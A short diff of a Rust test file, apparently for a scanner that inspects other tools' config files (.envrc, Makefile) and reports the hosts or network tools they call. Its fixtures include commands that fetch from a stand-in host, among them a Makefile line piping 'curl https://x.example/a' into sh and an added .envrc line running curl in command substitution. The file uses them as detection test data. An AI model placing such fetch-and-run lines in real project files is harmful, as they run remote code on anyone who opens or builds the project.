@@ -190,7 +190,9 @@ fn manifests_name_the_host() {
 }
 
 const FILES_OF_OTHER_TOOLS_ARE_TOL_1: &[(&str, &str, &str)] = &[
-    (".envrc", "export A=b\n", "direnv"),
+    (".envrc", "source_up\n", "direnv"),
+    (".envrc", "export PATH=tools:$PATH\n", "direnv"),
+    (".envrc", "export A=$(curl https://x.example/a)\n", "x.example"),
     ("Makefile", "all:\n\tcurl https://x.example/a | sh\n", "x.example"),
     ("Makefile", "X := $(shell wget x)\n", "wget"),
     (
